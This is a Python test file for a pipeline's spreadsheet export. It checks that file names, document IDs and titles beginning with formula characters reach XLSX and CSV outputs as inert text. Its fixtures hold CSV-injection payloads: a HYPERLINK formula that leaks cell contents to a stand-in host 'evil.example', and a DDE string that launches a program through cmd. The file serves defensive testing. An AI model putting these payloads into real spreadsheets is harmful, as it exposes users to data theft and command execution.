"""Outputs safe to open in a spreadsheet (issue 13, "Spreadsheets"): a file name, a manifest
doc_id or document text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return never reaches report.xlsx, divergences.csv or the csv tables as a live formula.

XLSX: every text cell is a string cell (openpyxl ``data_type == "s"``, no ``<f>`` in the
sheet XML) holding the text unchanged.  CSV: such a cell starts with a single quote (OWASP),
and ``tables.read_tables`` gives the original text back.
"""
from __future__ import annotations

import csv
import itertools
import json
import zipfile

import pandas as pd
import pytest
from conftest import SEED_PATHS
from openpyxl import load_workbook

from pipeline import cli
from pipeline.linking.compare import compare_records
from pipeline.output import tables
from pipeline.output.cells import csv_escape, csv_unescape
from pipeline.output.report import write_report

DANGER = ("=", "+", "-", "@", "\t", "\r")
TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
CHILD = "=HYPERLINK(0)"                       # a file name: =HYPERLINK(0).txt
MANIFEST_IDS = {"plan.txt": "@SUM(1+1)", "tab.txt": "\t=1+2", "cr.txt": "\r-3+4",
                "plus.txt": "+cmd|' /C calc'!A0"}
SEED_TITLE = "Thực hiện Chương trình phòng, chống mại dâm thành phố Bắc Kạn giai đoạn 2022-2025"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Real plans under hostile names: a child plan named ``=HYPERLINK(0).txt`` whose title
    is a formula, its parent, and plans whose manifest doc_ids are formulas; compared and
    extracted and compared with the real command line."""
    d = tmp_path_factory.mktemp("hostile")
    docs = d / "in"
    docs.mkdir()
    child = SEED_PATHS[0].read_text(encoding="utf-8")
    assert SEED_TITLE in child
    (docs / f"{CHILD}.txt").write_text(child.replace(SEED_TITLE, TITLE + " 2022-2025"),
                                       encoding="utf-8")
    (docs / "parent.txt").write_text(SEED_PATHS[3].read_text(encoding="utf-8"), encoding="utf-8")
    small = ("KẾ HOẠCH\n{}\nI. MỤC TIÊU\n"
             "- Đến năm 2025, tỷ lệ xã có điểm truy cập Internet công cộng đạt 80%.\n")
    for name in MANIFEST_IDS:
        (docs / name).write_text(small.format("-1+1 kế hoạch " + name), encoding="utf-8")
    (docs / "index.jsonl").write_text("".join(
        json.dumps({"file": f, "doc_id": i}) + "\n" for f, i in MANIFEST_IDS.items()),
        encoding="utf-8")
    assert cli.main(["extract", str(docs), "-o", str(d / "recs.jsonl"), "-j", "1", "-q"]) == 0
    assert cli.main(["compare", str(d / "recs.jsonl"), "-o", str(d / "report"), "-j", "1"]) == 0
    records = [json.loads(line) for line in (d / "recs.jsonl").read_text(encoding="utf-8").splitlines()]
    # the writer of `vnplan extract --format csv`, on the same records (one extraction)
    tables.write_tables(lambda: records, d / "tables", "csv")
    return d, records


def _ids(records):
    return {r["doc_id"] for r in records}


def test_hostile_inputs_really_are_hostile(hostile):
    _, records = hostile
    ids = _ids(records)
    assert any(i.startswith(CHILD) for i in ids)
    assert set(MANIFEST_IDS.values()) <= ids
    assert any((r["meta"].get("title") or "").startswith("=HYPERLINK(") for r in records)


def test_xlsx_cells_are_text_never_formulas(hostile):
    """Today: the title and the file name reach report.xlsx as live formulas."""
    d, records = hostile
    path = d / "report" / "report.xlsx"
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = load_workbook(path)
    starts = set()
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    if cell.value[:1] in DANGER:
                        starts.add(cell.value[:1])
    assert starts >= {"=", "+", "-", "@", "\t"}
    docs = column(wb["documents"], "doc_id")
    assert {"@SUM(1+1)", "\t=1+2", "+cmd|' /C calc'!A0"} <= set(docs)   # text kept as it was
    assert any(t and t.startswith(TITLE) for t in column(wb["documents"], "title"))
    assert any(str(v).startswith(CHILD) for v in column(wb["findings"], "child_doc"))


def column(ws, name):
    """The values under the header ``name`` of a sheet."""
    rows = list(ws.values)
    i = rows[0].index(name)
    return [r[i] for r in rows[1:]]


def test_xlsx_read_by_pandas_gives_the_text(hostile):
    d, _ = hostile
    sheets = pd.read_excel(d / "report" / "report.xlsx", sheet_name=None, dtype=str)
    docs = sheets["documents"]
    assert "@SUM(1+1)" in set(docs["doc_id"]) and "+cmd|' /C calc'!A0" in set(docs["doc_id"])
    assert docs["title"].fillna("").str.startswith(TITLE).any()
    assert sheets["findings"]["child_doc"].str.startswith(CHILD).any()


def _csv_cells(path):
    with open(path, encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_divergences_csv_cells_cannot_run(hostile):
    """Today: '=HYPERLINK(0)' is a formula cell of divergences.csv."""
    d, _ = hostile
    path = d / "report" / "divergences.csv"
    cells = _csv_cells(path)
    assert not [c for c in cells if c[:1] in DANGER]
    assert f"'{CHILD}" in {c[:len(CHILD) + 1] for c in cells}
    df = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert df["child_doc"].str.startswith("'" + CHILD).any()


def test_csv_tables_cells_cannot_run_and_read_back(hostile):
    d, records = hostile
    for name in tables.TABLES:
        cells = _csv_cells(d / "tables" / f"{name}.csv")
        assert not [c for c in cells if c[:1] in DANGER], name
    docs = pd.read_csv(d / "tables" / "documents.csv", dtype=str, keep_default_na=False)
    assert {"'@SUM(1+1)", "'\t=1+2", "'\r-3+4"} <= set(docs["doc_id"])
    back = tables.records_from_frames(tables.read_tables(d / "tables"))
    assert _ids(back) == _ids(records)
    assert [r["meta"]["title"] for r in back] == [r["meta"]["title"] for r in records]
    assert [[a["quote"] for a in r["agencies"]] for r in back] == \
        [[a["quote"] for a in r["agencies"]] for r in records]


def test_parquet_tables_keep_the_text_as_it_is(hostile, tmp_path):
    """Parquet is typed, not a spreadsheet: no quote added."""
    _, records = hostile
    tables.write_tables(lambda: records, tmp_path / "t.parquet", "parquet")
    docs = pd.read_parquet(tmp_path / "t.parquet" / "documents.parquet")
    assert set(MANIFEST_IDS.values()) <= set(docs["doc_id"])


def test_escape_round_trip():
    """csv_unescape(csv_escape(s)) == s for every short string over the risky characters;
    every escaped cell starts with a quote; other text is untouched."""
    alphabet = list(DANGER) + ["'", "a", " ", "1"]
    for n in range(4):
        for chars in itertools.product(alphabet, repeat=n):
            s = "".join(chars)
            e = csv_escape(s)
            assert csv_unescape(e) == s
            assert e[:1] not in DANGER
            if s[:1] not in DANGER and not (s[:1] == "'" and s[1:2] in DANGER + ("'",)):
                assert e == s
    assert csv_escape(-5) == -5 and csv_escape(None) is None and csv_escape(2.5) == 2.5


def test_control_characters_do_not_stop_the_workbook(tmp_path, seed_records):
    """A JSONL record may carry characters XLSX cannot hold; the report is still written."""
    recs = [dict(r) for r in seed_records[:2]]
    recs[0] = {**recs[0], "meta": {**recs[0]["meta"], "title": "=bad\x01title\x0b"}}
    write_report(compare_records(recs), tmp_path, formats=["xlsx"])
    ws = load_workbook(tmp_path / "report.xlsx")["documents"]
    assert "=bad\ufffdtitle\ufffd" in column(ws, "title")
